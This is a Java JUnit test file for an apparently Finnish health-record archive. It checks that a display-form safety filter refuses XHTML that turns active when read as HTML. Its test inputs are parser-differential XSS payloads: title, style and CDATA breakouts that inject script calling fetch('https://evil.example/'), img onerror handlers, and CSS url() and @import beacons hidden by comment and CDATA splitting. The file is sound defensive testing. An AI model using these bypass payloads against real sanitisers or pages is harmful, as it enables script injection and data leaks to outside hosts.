package fi.arkisto.store.display;

import fi.arkisto.store.cda.CdaParser;
import fi.arkisto.store.cda.SecureXml;
import fi.arkisto.store.error.ArchiveException;
import fi.arkisto.store.error.ErrorCode;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.w3c.dom.Document;
import org.w3c.dom.Node;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.URISyntaxException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

/**
 * Display forms that are inert as XHTML but active when the same bytes are read by an HTML parser (a client system
 * or citizen page serving them as {@code text/html}), and CSS that is safe node by node but not joined as the browser
 * applies it. Each differential case first shows that it is one (jsoup, an HTML5 parser, finds active markup the XML
 * tree does not have), then that the check refuses it. The positive controls show that what the archive accepts
 * reads alike under both parsers.
 */
class DisplayFormParserDifferentialTest {

    private static final Set<String> ACTIVE = Set.of("script", "img", "iframe", "object", "embed", "svg", "link", "meta");
    private final DisplayFormSafety safety = new DisplayFormSafety();

    private static String form(String body) {
        return "<div xmlns=\"http://www.w3.org/1999/xhtml\"><h1>Päätös</h1>" + body + "</div>";
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {
            // RCDATA: <title> ends at the literal </title>, which XML lets a CDATA section or a comment carry
            "<title><![CDATA[</title><script>fetch('https://evil.example/')</script>]]></title>",
            "<title><!-- </title><script>fetch('https://evil.example/')</script> --></title>",
            // raw text: the same for <style>
            "<style><![CDATA[</style><script>fetch('https://evil.example/')</script>]]></style>",
            "<style><!-- </style><script>fetch('https://evil.example/')</script> --></style>",
            // CDATA outside foreign content is a bogus comment that ends at the first '>'
            "<p><![CDATA[x><img src=\"https://evil.example/t.png\" onerror=\"fetch('https://evil.example/')\">]]></p>",
            // <!--> is a whole comment to HTML; to XML a comment whose text begins with '>'
            "<!--><img src=\"https://evil.example/t.png\" onerror=\"fetch('https://evil.example/')\"/>-->",
            "<!---><img src=\"https://evil.example/t.png\"/>-->"})
    void refusesWhatAnHtmlParserReadsAsActiveMarkup(String snippet) {
        // given a display form whose XML tree is inert but whose HTML tree holds active elements
        String xhtml = form(snippet);
        assertThat(activeElementsAsXml(xhtml)).as("as XML").isEmpty();
        assertThat(activeElementsAsHtml(xhtml)).as("as HTML").isNotEmpty();

        // when checked, then it is refused
        assertThat(refusalOf(xhtml).code()).isEqualTo(ErrorCode.DISPLAY_FORM_UNSAFE);
    }

    @Test
    void refusesASelfClosedStyleThatMakesTheRestOfTheFormCssToAnHtmlParser() {
        // given <style/>: nothing to XML, a raw-text element to the end of the input to HTML
        String xhtml = form("<style type=\"text/css\"/><p>}* { background: url(https://evil.example/t.png) }</p>");
        assertThat(Jsoup.parse(xhtml).selectFirst("style").data()).contains("url(https://evil.example");

        // when checked, then
        ArchiveException refusal = refusalOf(xhtml);
        assertThat(refusal.code()).isEqualTo(ErrorCode.DISPLAY_FORM_UNSAFE);
        assertThat(refusal.getMessage()).contains("empty <style>");
    }

    @Test
    void refusesCdataTextThatAnHtmlParserWouldHide() {
        // given text inside CDATA: shown by an XML reader, a comment (hidden) to an HTML reader, so the two would
        // show different decisions ("ei myönnetä" / "myönnetä")
        String xhtml = form("<p>Päätös: <![CDATA[ei ]]>myönnetä</p>");
        assertThat(Jsoup.parse(xhtml).selectFirst("p").text()).doesNotContain("ei");

        // when checked, then
        assertThat(refusalOf(xhtml).getMessage()).contains("CDATA section outside <style>");
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {
            // split by a CDATA boundary: each node alone is harmless, the joined text is a url() and an @import
            "<style>.a { background: u<![CDATA[rl(https://evil.example/t.png) }]]></style>",
            "<style>@im<![CDATA[port \"https://evil.example/x.css\";]]></style>",
            // split by a comment: the XML tree has two text nodes, the style sheet one text
            "<style>@im<!-- -->port \"https://evil.example/x.css\";</style>",
            // a fake comment opened and closed inside strings hides the url() from a check that strips comments first
            "<style>.a { content: \"/*\" } .b { background: url(https://evil.example/t.png) } .c { content: \"*/\" }</style>",
            "<p style=\"content: '/*'; background: url(https://evil.example/t.png); quotes: '*/'\">x</p>",
            // comments between the letters are dropped before the check, as they join the tokens
            "<style>.a { background: u/**/rl(https://evil.example/t.png) }</style>",
            // an unclosed comment runs to the end; the rest is not CSS
            "<style>.a { background: url(https://evil.example/t.png) } /* unclosed</style>"})
    void checksTheCssAsTheBrowserJoinsAndTokenizesIt(String snippet) {
        assertThat(refusalOf(form(snippet)).code()).isEqualTo(ErrorCode.DISPLAY_FORM_UNSAFE);
    }

    @Test
    void aCommentInsideAStringIsNotAComment() {
        // the check keeps strings whole; a real comment after them still goes
        assertThat(CssSafety.withoutComments("a { content: \"/* x */\" } /* gone */ b { }"))
                .isEqualTo("a { content: \"/* x */\" }  b { }");
        assertThat(CssSafety.withoutComments("a { } /* unclosed b { background: url(x) }")).isEqualTo("a { } ");
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {
            "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>",
            "<?xml version=\"1.0\" encoding=\"UTF-16\"?>",
            "<?xml version='1.0' encoding='windows-1252'?>"})
    void refusesDisplayFormsDeclaringAnotherEncodingThanUtf8(String declaration) {
        ArchiveException refusal = refusalOf(declaration + form("<p>x</p>"));
        assertThat(refusal.code()).isEqualTo(ErrorCode.DISPLAY_FORM_MALFORMED);
        assertThat(refusal.getMessage()).contains("must be UTF-8");
    }

    @Test
    void refusesBytesThatAreNotUtf8() {
        byte[] latin1 = form("<p>Päätös</p>").getBytes(StandardCharsets.ISO_8859_1);
        ArchiveException refusal = catchThrowableOfType(() -> safety.check(latin1), ArchiveException.class);
        assertThat(refusal.code()).isEqualTo(ErrorCode.DISPLAY_FORM_MALFORMED);
    }

    @ParameterizedTest(name = "U+{0}")
    @ValueSource(strings = {"85", "9B", "7F"})
    void refusesControlCharacters(String hex) {
        char control = (char) Integer.parseInt(hex, 16);
        assertThat(refusalOf(form("<p>Päätös" + control + "</p>")).getMessage()).contains("U+00" + hex);
    }

    @Test
    void refusesAnXml11ControlCharacterReference() {
        String xhtml = "<?xml version=\"1.1\" encoding=\"UTF-8\"?>" + form("<p title=\"&#x1b;[31m\">x</p>");
        assertThat(refusalOf(xhtml).getMessage()).contains("U+001B");
    }

    @Test
    void whatTheArchiveAcceptsReadsAlikeAsXmlAndAsHtml() throws IOException {
        // given the display forms of the generated documents and of the real sample
        List<byte[]> forms = new ArrayList<>();
        CdaParser parser = new CdaParser();
        for (Path file : generatedDocuments()) {
            forms.add(parser.parse(Files.readAllBytes(file)).displayForm());
        }
        forms.add(parser.parse(DisplayFormSafetyTest.resource("kanta/asiakkuusasiakirja_S.xml")).displayForm());
        assertThat(forms).hasSizeGreaterThan(10);

        for (byte[] form : forms) {
            // when checked, then each is accepted
            assertThatCode(() -> safety.check(form)).doesNotThrowAnyException();
            // and both parsers see the same elements in the same order, with the same text
            String xhtml = new String(form, StandardCharsets.UTF_8);
            assertThat(withoutImplied(elementsAsHtml(xhtml))).isEqualTo(withoutImplied(elementsAsXml(xhtml)));
            assertThat(normalised(Jsoup.parse(xhtml).body().text()))
                    .isEqualTo(normalised(SecureXml.parseDocument(form).getDocumentElement().getTextContent()));
        }
    }

    private ArchiveException refusalOf(String xhtml) {
        ArchiveException refusal = catchThrowableOfType(() -> safety.check(xhtml.getBytes(StandardCharsets.UTF_8)),
                ArchiveException.class);
        assertThat(refusal).as("the check must refuse " + xhtml).isNotNull();
        return refusal;
    }

    private static List<String> activeElementsAsXml(String xhtml) {
        return elementsAsXml(xhtml).stream().filter(ACTIVE::contains).toList();
    }

    private static List<String> activeElementsAsHtml(String xhtml) {
        return elementsAsHtml(xhtml).stream().filter(ACTIVE::contains).toList();
    }

    private static List<String> elementsAsXml(String xhtml) {
        Document document = SecureXml.parseDocument(xhtml.getBytes(StandardCharsets.UTF_8));
        List<String> names = new ArrayList<>();
        collect(document.getDocumentElement(), names);
        return names;
    }

    private static void collect(Node node, List<String> names) {
        if (node.getNodeType() == Node.ELEMENT_NODE) {
            names.add(node.getLocalName());
        }
        for (Node child = node.getFirstChild(); child != null; child = child.getNextSibling()) {
            collect(child, names);
        }
    }

    private static List<String> elementsAsHtml(String xhtml) {
        return Jsoup.parse(xhtml).getAllElements().stream().map(Element::normalName)
                .filter(name -> !name.equals("#root")).toList();
    }

    /** Without the elements an HTML parser implies where XHTML may leave them out (html, head, body, tbody). */
    private static List<String> withoutImplied(List<String> names) {
        return names.stream().filter(name -> !Set.of("html", "head", "body", "tbody").contains(name)).toList();
    }

    private static String normalised(String text) {
        return text.replaceAll("\\s+", "");
    }

    private static List<Path> generatedDocuments() {
        try (Stream<Path> files = Files.list(Path.of(DisplayFormParserDifferentialTest.class
                .getResource("/structure/generated").toURI()))) {
            return files.filter(p -> p.toString().endsWith(".xml")).sorted().toList();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        } catch (URISyntaxException e) {
            throw new IllegalStateException(e);
        }
    }
}
